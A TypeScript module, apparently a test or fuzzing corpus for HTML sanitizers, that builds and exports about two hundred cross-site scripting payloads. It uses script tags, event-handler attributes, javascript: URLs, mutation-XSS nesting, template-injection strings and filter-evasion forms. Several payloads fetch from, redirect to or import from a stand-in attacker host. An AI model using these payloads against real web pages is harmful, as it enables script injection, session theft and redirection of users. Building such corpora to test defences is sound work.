/** Two hundred ways to get a program run where words belong. */
const acts = ["alert(1)", "fetch('//evil.example')", "document.title='x'", "location='//evil.example'"];
const shapes: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<svg onload=${act}>`,
  (act) => `"><script>${act}</script>`,
  (act) => `' onfocus=${act} autofocus='`,
  (act) => `" onmouseover="${act}`,
  (act) => `</textarea><script>${act}</script>`,
  (act) => `</title><script>${act}</script>`,
  (act) => `<a href="javascript:${act}">x</a>`,
  (act) => `<iframe srcdoc="<script>${act}</script>"></iframe>`,
  (act) => `<body onload=${act}>`,
  (act) => `<details open ontoggle=${act}>`,
  (act) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  (act) => `<!--><img src=x onerror=${act}>-->`,
  (act) => `\${${act}}`,
  (act) => `{{constructor.constructor('${act}')()}}`,
  (act) => `&lt;script&gt;${act}&lt;/script&gt;`,
  (act) => `<input autofocus onfocus=${act}>`,
  (act) => `<style>@import '//evil.example/${act}'</style>`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<object data="data:text/html,<script>${act}</script>">`,
  (act) => `<base href="//evil.example/${act}">`,
  (act) => `%3Cscript%3E${act}%3C/script%3E`,
  (act) => `<scr<script>ipt>${act}</script>`,
  (act) => `<x contenteditable onblur=${act}>`,
];
export const payloads = shapes.flatMap((shape) =>
  [...acts, ...acts.map((act) => act.toUpperCase())].map(shape),
);
